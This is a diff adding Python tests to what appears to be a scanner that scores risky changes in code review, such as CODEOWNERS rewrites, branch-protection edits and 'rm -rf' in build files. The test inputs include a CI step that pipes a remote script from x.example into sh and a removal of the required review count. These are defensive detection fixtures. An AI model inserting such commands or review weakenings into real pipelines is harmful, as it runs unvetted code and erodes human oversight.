@@ -293,3 +293,40 @@ def test_a_test_file_moved_with_edits_is_low_and_a_deleted_one_is_not() -> None:
     context = FileContext(prepare(deleted), role_of(deleted), ChangeAddedLines(change_of(deleted, stub)))
     [found] = evaluate_rule(RULES.by_id("TEST-DISABLED-OR-DELETED"), context.view, context)
     assert found.severity == "high"
+
+
+def test_codeowners_rewritten_is_medium_removed_outright_is_high() -> None:
+    swap = "-/charts/x/ @alice @bob\n+/charts/x/ @alice @carol"
+    [found] = line_rule("GOV-REVIEW-ROUTING-CHANGED", ".github/CODEOWNERS", swap)
+    assert found.severity == "medium"
+    [found] = line_rule("GOV-REVIEW-ROUTING-CHANGED", ".github/CODEOWNERS", "-/charts/x/ @alice @bob\n /charts/y/ @dana")
+    assert found.severity == "high" and "outright" in found.message
+    [gate] = line_rule("GOV-REVIEW-ROUTING-CHANGED", "infra/github_branch_protection.tf",
+                       "-    required_approving_review_count = 2\n+    dismiss_stale_reviews = true")
+    assert gate.severity == "critical"
+
+
+def test_rm_rf_in_a_build_file_is_low_unless_its_target_is_dangerous() -> None:
+    path = ".github/workflows/pre-commit.yml"
+    fired = rules_fired(one_file_change(path, "+          rm -rf /opt/hostedtoolcache/go"))
+    assert "OPS-RM-RF" not in fired and fired["OPS-RM-RF-IN-BUILD"].severity == "low"
+    [found] = line_rule("OPS-RM-RF-IN-BUILD", path, "+          rm -rf /opt/hostedtoolcache/go")
+    assert found.severity == "low"
+    [found] = line_rule("OPS-RM-RF-IN-BUILD", "Makefile", "+\trm -rf $BUILD_DIR/")
+    assert found.severity == "high"
+    [script] = line_rule("OPS-RM-RF", "scripts/cleanup.sh", "+rm -rf ./build/tmp")
+    assert script.severity == "high"
+
+
+def test_an_escalated_edit_of_an_existing_command_is_not_lowered_as_preexisting() -> None:
+    same = "-      - run: curl -sSf https://x.example/i.sh | sh\n+      - run: curl -sSf https://x.example/i.sh | sh -s -- -y"
+    [found] = line_rule("REMOTE-SCRIPT-PIPED-TO-SHELL", ".github/workflows/ci.yml", same)
+    assert found.severity == "medium" and "already did this" in found.message
+    [new] = line_rule("REMOTE-SCRIPT-PIPED-TO-SHELL", ".github/workflows/ci.yml", "+      - run: curl -sSf https://x.example/i.sh | sh")
+    assert new.severity == "high"
+
+
+def test_helm_unittest_suites_are_tests_but_chart_test_hooks_are_not() -> None:
+    role = role_of(file_from("charts/alertmanager/unittests/persistence_test.yaml", "+x"))
+    assert role is not None and role.name == "test"
+    assert role_of(file_from("charts/alertmanager/templates/tests/test-connection.yaml", "+x")) is None
